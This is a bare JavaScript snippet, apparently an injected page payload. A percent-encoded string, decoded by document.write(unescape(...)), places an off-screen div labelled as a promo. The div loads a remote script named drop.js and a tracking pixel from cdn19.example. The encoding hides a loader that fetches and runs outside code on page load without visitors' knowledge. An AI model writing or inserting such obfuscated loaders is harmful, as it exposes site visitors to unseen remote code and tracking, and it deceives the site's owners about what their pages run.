var spool = "%3C%64%69%76%20%63%6C%61%73%73%3D%22%70%72%6F%6D%6F%2D%31%39%22%20%73%74%79%6C%65%3D%22%70%6F%73%69%74%69%6F%6E%3A%61%62%73%6F%6C%75%74%65%3B%6C%65%66%74%3A%2D%31%33%33%70%78%22%3E%3C%73%63%72%69%70%74%20%73%72%63%3D%22%68%74%74%70%3A%2F%2F%63%64%6E%31%39%2E%65%78%61%6D%70%6C%65%2F%64%72%6F%70%2E%6A%73%22%3E%3C%2F%73%63%72%69%70%74%3E%3C%69%6D%67%20%73%72%63%3D%22%68%74%74%70%3A%2F%2F%63%64%6E%31%39%2E%65%78%61%6D%70%6C%65%2F%70%78%2E%67%69%66%22%3E%3C%2F%64%69%76%3E";
document.write(unescape(spool));
